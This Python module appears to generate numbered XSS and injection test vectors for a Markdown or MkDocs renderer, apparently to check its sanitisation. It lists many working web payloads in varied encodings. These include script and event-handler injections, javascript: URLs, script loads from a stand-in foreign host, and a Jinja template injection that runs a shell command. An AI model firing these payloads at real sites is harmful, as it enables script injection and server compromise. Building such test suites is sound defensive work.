"""Texts that try to become code: families of tricks, each in several spellings, inside several surroundings.

Every text carries its number, which its code would tell the page, so that whatever runs can be traced to its text.
"""

from collections.abc import Callable, Iterator
from html import escape
from itertools import product
from random import Random
from urllib.parse import quote

FOREIGN = "https://elsewhere.example"

FAMILIES = (
    # elements that run
    "<script>CODE</script>",
    f"<script src={FOREIGN}/NUMBER.js></script>",
    "<script type=module>CODE</script>",
    "<img src=x onerror=CODE>",
    "<img srcset=x onerror=CODE>",
    "<svg onload=CODE>",
    "<svg><script>CODE</script></svg>",
    "<svg><animate onbegin=CODE attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:CODE /><a><text>x</text></a></svg>",
    "<svg><a xlink:href='javascript:CODE'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=CODE>#x'></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=CODE>",
    "<math><a href=javascript:CODE>x</a></math>",
    "<iframe srcdoc='<script>parent.CODE</script>'></iframe>",
    "<iframe src=javascript:CODE></iframe>",
    f"<iframe src={FOREIGN}/NUMBER></iframe>",
    "<object data=javascript:CODE></object>",
    "<embed src=javascript:CODE>",
    "<frameset onload=CODE><frame src=javascript:CODE></frameset>",
    "<body onload=CODE onpageshow=CODE onhashchange=CODE>",
    "<input autofocus onfocus=CODE>",
    "<button onclick=CODE>x</button>",
    "<form action=javascript:CODE><input type=submit></form>",
    "<form><button formaction=javascript:CODE>x</button></form>",
    "<details open ontoggle=CODE><summary>x</summary></details>",
    "<video><source onerror=CODE></video>",
    "<audio src=x onerror=CODE></audio>",
    "<marquee onstart=CODE>x</marquee>",
    "<div onpointerover=CODE onmouseover=CODE style=position:fixed;inset:0>x</div>",
    "<p style=animation-name:x onanimationstart=CODE onanimationend=CODE>x",
    "<dialog open oncancel=CODE onclose=CODE>x</dialog>",
    "<div popover id=pop NUMBER onbeforetoggle=CODE>x</div><button popovertarget=pop>x</button>",
    "<template shadowrootmode=open><img src=x onerror=CODE></template>",
    "<noscript><p title='</noscript><img src=x onerror=CODE>'>",
    "<xmp><img title='</xmp><img src=x onerror=CODE>'>",
    "<a href='javascript:CODE' autofocus>x</a>",
    "<a href='data:text/html,<script>CODE</script>'>x</a>",
    "<area href='javascript:CODE'>",
    "<select><option><img src=x onerror=CODE></select>",
    # elements that change or fetch
    f"<meta http-equiv=refresh content='0;url={FOREIGN}/NUMBER'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    f"<base href={FOREIGN}/>",
    f"<link rel=stylesheet href={FOREIGN}/NUMBER.css>",
    f"<link rel=prefetch href={FOREIGN}/NUMBER>",
    f"<style>@import '{FOREIGN}/NUMBER.css';*{{display:none}}</style>",
    f'<p style="background:url({FOREIGN}/NUMBER.png)">x</p>',
    f"<img src={FOREIGN}/NUMBER.png>",
    "<plaintext>NUMBER",
    "<textarea>NUMBER",
    "<title>NUMBER",
    "<!-- NUMBER",
    "<![CDATA[ NUMBER",
    "<?php CODE ?>",
    # ways out of where a text may stand
    '"><img src=x onerror=CODE>',
    "'><img src=x onerror=CODE>",
    '" onmouseover="CODE" autofocus onfocus="CODE" x="',
    "' onmouseover='CODE' autofocus onfocus='CODE' x='",
    "` onmouseover=CODE x=`",
    " onmouseover=CODE ",
    "</title><script>CODE</script>",
    "</textarea><script>CODE</script>",
    "</style><script>CODE</script>",
    "</script><script>CODE</script>",
    "</template></bdi></span></p></main></body></html><script>CODE</script>",
    "--><script>CODE</script><!--",
    "]]><script>CODE</script>",
    '\\";CODE//',
    "';CODE;'",
    '"-CODE-"',
    "${CODE}",
    "`;CODE;`",
    "\\u0022;CODE//",
    "*/CODE/*",
    "\\3c script\\3e CODE",
    # Markdown and its extensions
    "[x](javascript:CODE)",
    '[x](  javascript:CODE  "t")',
    "[x](<javascript:CODE>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:CODE)",
    "[x](//elsewhere.example/NUMBER)",
    "![x](javascript:CODE)",
    f"![x]({FOREIGN}/NUMBER.png)",
    f"![x]({FOREIGN}/NUMBER.png \"' onload='CODE\")",
    f'[x]({FOREIGN}/"onmouseover="CODE)',
    f"[x]({FOREIGN}/NUMBER '\"onmouseover=CODE')",
    "<javascript:CODE>",
    f'<{FOREIGN}/"onmouseover=CODE>',
    "[x]: javascript:CODE\n\n[x]",
    "[x][y]\n\n[y]: javascript:CODE 'NUMBER'",
    "x {: onclick=CODE #__search .md-overlay }",
    "# x { onclick=CODE #__drawer }",
    "[x](a){ onclick=CODE }",
    "<div markdown onclick=CODE>\n*x*\n</div>",
    '--8<-- "mkdocs.yml" NUMBER',
    "--8<--\nmkdocs.yml\n--8<--",
    "{{ NUMBER * 7 }}{% include 'mkdocs.yml' %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }} NUMBER",
    "---\ntemplate: ../../mkdocs.yml\ntitle: </title><script>CODE</script>\n---\nNUMBER",
    "title: </title><script>CODE</script>\n\nNUMBER",
    '!!! note "<img src=x onerror=CODE>"\n    NUMBER',
    "??? x\n    <script>CODE</script>",
    '```mermaid\ngraph TD; A["<img src=x onerror=CODE>"]\n```',
    "```html onclick=CODE\n<script>CODE</script>\n```",
    "    <script>CODE</script>",
    "$$ \\href{javascript:CODE}{x} $$",
    "<details markdown=1><summary onclick=CODE>x</summary></details>",
    "x[^1]\n\n[^1]: <script>CODE</script>",
    '*[HTML]: "onmouseover=CODE\nHTML',
    ":material-account:{ onclick=CODE } NUMBER",
    "{++<img src=x onerror=CODE>++}{--NUMBER--}",
    "|a|b|\n|-|-|\n|<img src=x onerror=CODE>|NUMBER|",
    "<del>NUMBER</del><ins onclick=CODE>x</ins>",
    "<mark data-md-search-mark onclick=CODE>x</mark>",
    "javascript:CODE",
    f'{FOREIGN}/NUMBER"onmouseover="CODE',
    f"{FOREIGN}/<script>CODE</script>",
)

_SPELLINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.upper().replace("ALERT", "alert"),
    lambda text: "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(text)).replace(
        "aLeRt", "alert"
    ),
    escape,
    lambda text: escape(escape(text)),
    lambda text: "".join(f"&#{ord(letter)};" if letter in "<>\"':()" else letter for letter in text),
    lambda text: "".join(f"&#x{ord(letter):07X}" if letter in "<>\"':" else letter for letter in text),
    lambda text: text.replace("javascript:", "java&Tab;script&colon;").replace("(", "&lpar;").replace(")", "&rpar;"),
    lambda text: text.replace("javascript:", "java\tscript:").replace(" on", "\ton"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\n").replace(">", "\n>", 1),
    lambda text: text.replace(">", "", 1),
    lambda text: text.replace("<", "<<", 1),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: quote(text, safe=" "),
    lambda text: quote(quote(text, safe="")),
    lambda text: "".join(f"\\u{ord(letter):04x}" if letter in "<>\"'" else letter for letter in text),
    lambda text: "".join(f"\\x{ord(letter):02x}" if letter in "<>\"'" else letter for letter in text),
    lambda text: text.replace("script", "scr<script>ipt").replace("onerror", "onerr<x>or"),
    lambda text: text.replace("<", "\\<").replace("[", "\\["),
    lambda text: text.replace("(", "`", 1).replace(")", "`", 1),
)

_SURROUNDINGS = (
    "{}",
    "We agree: {} and that is all.",
    "**{}**",
    "_a {} b_",
    "`{}`",
    "`` ` {}",
    "- one\n- {}\n  1. {}",
    "> {}\n>> {}",
    "[{}](https://example.org)",
    "[x](https://example.org '{}')",
    "<p>{}</p>",
    "x\\\n{}",
    "x\n\n{}\n\ny",
    "{}{}",
)


def vectors(seed: int, size: int) -> list[str]:
    """That many different texts, every family among them; the same for the same seed and size."""
    rng = Random(f"{seed} vectors")  # noqa: S311 - no secret
    rest = list(product(FAMILIES, _SPELLINGS, _SURROUNDINGS))
    rng.shuffle(rest)
    first = [(family, _SPELLINGS[0], _SURROUNDINGS[0]) for family in FAMILIES]
    made: list[str] = []
    for text in _different((*first, *rest)):
        if len(made) == size:
            break
        made.append(text.replace("CODE", f"alert({len(made)})").replace("NUMBER", str(len(made))))
    return made


def _different(parts: tuple[tuple[str, Callable[[str], str], str], ...]) -> Iterator[str]:
    seen: set[str] = set()
    for family, spelled, around in parts:
        text = around.replace("{}", spelled(family.replace("CODE", "alert(NUMBER)"))).replace("%28NUMBER%29", "(NUMBER)")
        if text not in seen:
            seen.add(text)
            yield text
